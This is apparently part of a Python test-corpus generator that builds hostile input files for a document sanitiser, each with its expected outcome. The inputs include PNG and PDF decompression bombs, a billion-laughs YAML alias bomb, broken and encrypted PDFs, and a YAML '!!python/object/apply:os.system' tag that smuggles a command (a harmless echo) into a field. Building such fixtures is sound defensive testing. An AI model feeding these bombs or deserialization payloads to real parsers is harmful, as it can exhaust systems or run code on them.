                "MARKER-EXIF-MAKE",
                "MARKER-EXIF-MODEL",
                "MARKER-EXIF-DESCRIPTION",
                "MARKER-EXIF-SOFTWARE",
                "MARKER-EXIF-SERIAL",
                "MARKER-GPS-DATUM",
                "MARKER-XMP-JPEG",
                "MARKER-JPEG-COMMENT",
            ],
            display_size=[300, 400],
        ),
    )


def _png_named_jpg() -> Iterable[Item]:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "MARKER-PNG-TEXT")
    info.add_text("Author", "MARKER-PNG-AUTHOR")
    buf = io.BytesIO()
    _picture((300, 200)).save(buf, "PNG", pnginfo=info)
    yield Item(
        "png-named.jpg",
        buf.getvalue(),
        _entry(
            "clean",
            "a 300x200 PNG named .jpg (type must come from the content) with two tEXt chunks",
            ["MARKER-PNG-TEXT", "MARKER-PNG-AUTHOR"],
            display_size=[300, 200],
        ),
    )


def _huge_pixels() -> Iterable[Item]:
    side = HUGE_SIDE
    row = 1 + (side + 7) // 8  # filter byte + 1-bit pixels; all zero = filter None, black
    png = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", _zlib_zeros(side * row))
        + _png_chunk(b"IEND", b"")
    )
    yield Item(
        "huge-pixels.png",
        png,
        _entry(
            "error",
            f"complete, valid {side}x{side} 1-bit grey PNG (3.6 gigapixels, {side * row} "
            "bytes of zero scanlines in one IDAT); Pillow refuses it with DecompressionBombError",
        ),
    )


def _truncated_jpg() -> Iterable[Item]:
    buf = io.BytesIO()
    image = _picture()
    noise = random.Random(7).randbytes(400 * 300)
    image = Image.blend(image, Image.frombytes("L", (400, 300), noise).convert("RGB"), 0.3)
    image.save(buf, "JPEG", quality=90)
    data = buf.getvalue()
    yield Item(
        "truncated.jpg",
        data[: len(data) // 2],
        _entry(
            "error",
            "first half of a 400x300 baseline JPEG: headers intact so Image.open succeeds, "
            "but decoding fails with 'image file is truncated'",
        ),
    )


# --------------------------------------------------------------------------------------------
# Files that must be refused


def _refused_pdfs() -> Iterable[Item]:
    yield Item("empty.pdf", b"", _entry("error", "0 bytes"))

    whole = _text_pdf("truncated", pages=6)
    yield Item(
        "truncated.pdf",
        whole[: len(whole) * 2 // 5],
        _entry(
            "error",
            "first 40% of a valid 6-page PDF: the catalog survives but not the /Pages object, "
            "contents, xref or trailer; qpdf 11 ('unable to find trailer dictionary') and "
            "pikepdf's libqpdf 12 ('root of pages tree has no /Kids array') both refuse it",
            repaired=False,
        ),
    )

    whole = _text_pdf("truncated-tail", pages=6)
    yield Item(
        "truncated-tail.pdf",
        whole[: len(whole) * 7 // 10],
        _entry(
            "error_or_clean",
            "first 70% of a valid 6-page PDF (no xref or trailer): qpdf 11 refuses it, but "
            "pikepdf's libqpdf 12 rebuilds it from the catalog with warnings and 6 pages, of "
            "which pages 4-6 have lost their content (blank); building it silently would drop "
            "record pages, so refusing it (or at least warning) is the safer choice",
            visible=_visible("truncated-tail"),
            pages=6,
            pages_with_text=[0, 1, 2],
            repaired=True,
        ),
    )

    html = (
        "<!DOCTYPE html>\n<html><head><title>Session expired</title></head>\n<body>\n"
        "<h1>Session expired</h1>\n<p>Your patient portal session has expired. Please sign "
        "in again to download this document.</p>\n</body></html>\n"
    )
    yield Item(
        "not-a-pdf.pdf",
        html.encode(),
        _entry("error", "an HTML 'Session expired' page saved with a .pdf name"),
    )

    zero = _revision(
        PDF_HEADER,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        },
        b"/Size 3 /Root 1 0 R",
    )
    yield Item(
        "zero-pages.pdf",
        zero,
        _entry("error", "structurally valid PDF whose /Pages has /Kids [] /Count 0", pages=0),
    )

    garbage = b"%PDF-1.7\n" + random.Random(20260131).randbytes(8192)
    yield Item(
        "garbage.pdf",
        garbage,
        _entry("error", "%PDF-1.7 header followed by 8 KiB of seeded random bytes"),
    )

    bomb = _zlib_zeros(BOMB_BYTES)
    data = _revision(
        PDF_HEADER,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: _page(b"[4 0 R 6 0 R]"),
            4: _stream(_text_content(_visible("flate-bomb"))),
            5: HELVETICA,
            6: _stream(bomb, b"/Filter /FlateDecode "),
        },
        b"/Size 7 /Root 1 0 R",
    )
    yield Item(
        "flate-bomb.pdf",
        data,
        _entry(
            "error_or_clean",
            f"the page's second content stream is FlateDecode of {BOMB_BYTES} zero bytes "
            f"({len(bomb)} compressed; NUL is PDF whitespace, so it is a valid, empty content "
            "stream); refusing it is fine, and so is building it if nothing inflates it whole",
            visible=_visible("flate-bomb"),
            pages=1,
        ),
    )

    pdf = _open("encrypted", pages=2)
    encrypted = _save(
        pdf,
        compress_streams=True,
        stream_decode_level=None,
        deterministic_id=False,
        static_id=True,
        encryption=pikepdf.Encryption(user=PASSWORD, owner=OWNER_PASSWORD, R=6, aes=True),
    )
    yield Item(
        "encrypted.pdf",
        encrypted,
        _entry(
            "error",
            f"2-page AES-256 (R6) PDF, user password {PASSWORD}, owner password "
            f"{OWNER_PASSWORD}; refused without the password (its bytes differ between runs: "
            "qpdf draws the key and salts at random)",
            visible=_visible("encrypted"),
            pages=2,
            password=PASSWORD,
            deterministic=False,
        ),
    )


def _packets() -> Iterable[Item]:
    levels = "abcdefghi"
    laughs = [f"{levels[0]}: &{levels[0]} [{', '.join(['lol'] * 9)}]"]
    for prev, name in itertools.pairwise(levels):
        laughs.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
    laughs.append(f"questions: *{levels[-1]}")
    duplicate = MINIMAL_PACKET + "patient:\n  name: Other Person\n  date_of_birth: 1980-02-29\n"
    tagged = MINIMAL_PACKET + 'notes: !!python/object/apply:os.system ["echo MARKER-YAML-TAG"]\n'
    packets = [
        (
            "billion-laughs.yaml",
            MINIMAL_PACKET + "\n".join(laughs) + "\n",
            "minimal packet plus 9 levels of 9-way aliases (9**9 = 387,420,489 'lol' when "
            "expanded) ending in questions: *i",
            [],
        ),
        (
            "duplicate-keys.yaml",
            duplicate,
            "minimal packet with a second top-level patient: key",
            [],
        ),
        (
            "python-tag.yaml",
            tagged,
            "minimal packet whose notes use !!python/object/apply:os.system; the marker "
            "must not be echoed",
            ["MARKER-YAML-TAG"],
        ),
    ]
    for name, text, what, markers in packets:
        yield Item(name, text.encode(), {**_entry("error", what, markers), "kind": "packet"})


MAKERS: list[Callable[[], Iterable[Item]]] = [
    _js_names,
    _js_openaction,
    _js_catalog_aa,
    _js_page_aa,
    _js_annot,
    _js_field,
    _js_outline,
    _actions,
    _embedded,
    _richmedia,
    _metadata,
    _incremental,
    _broken_xref,
    _cyclic_outline,
    _photo_gps,
    _png_named_jpg,
    _refused_pdfs,
    _huge_pixels,
    _truncated_jpg,
    _packets,
]


def generate(dest: Path) -> dict[str, dict[str, Any]]:
    """Write the corpus into ``dest`` (created if missing) and return its catalog."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    catalog: dict[str, dict[str, Any]] = {}
    for maker in MAKERS:
        for item in maker():
            assert item.name not in catalog, item.name
            (dest / item.name).write_bytes(item.data)
            catalog[item.name] = item.entry
    return catalog


def self_check(dest: Path, catalog: dict[str, dict[str, Any]]) -> None:
    """Every listed marker (and every clean PDF's visible text) is in the input's bytes, and no
    marker is part of another, so a leftover can be told apart."""
    markers = [m for entry in catalog.values() for m in entry["markers"]]
    for m in markers:
        assert m.isascii() and m.startswith("MARKER-"), m
        others = [o for o in markers if o != m and m in o]
        assert not others, f"{m} is part of {others}"
    assert len(set(markers)) == len(markers), "a marker is used twice"
    for name, entry in catalog.items():
        data = (dest / name).read_bytes()
        for m in entry["markers"]:
            assert m.encode() in data, f"{name}: {m} not in the input bytes"
        if entry["expect"] == "clean" and name.endswith(".pdf"):
            assert entry["visible"].encode() in data, f"{name}: visible text not in the input"


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python -m tests.corpus.make_hostile OUT_DIR", file=sys.stderr)
        return 2
    dest = Path(args[0])
    catalog = generate(dest)
    self_check(dest, catalog)
    print(json.dumps(catalog, indent=2))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
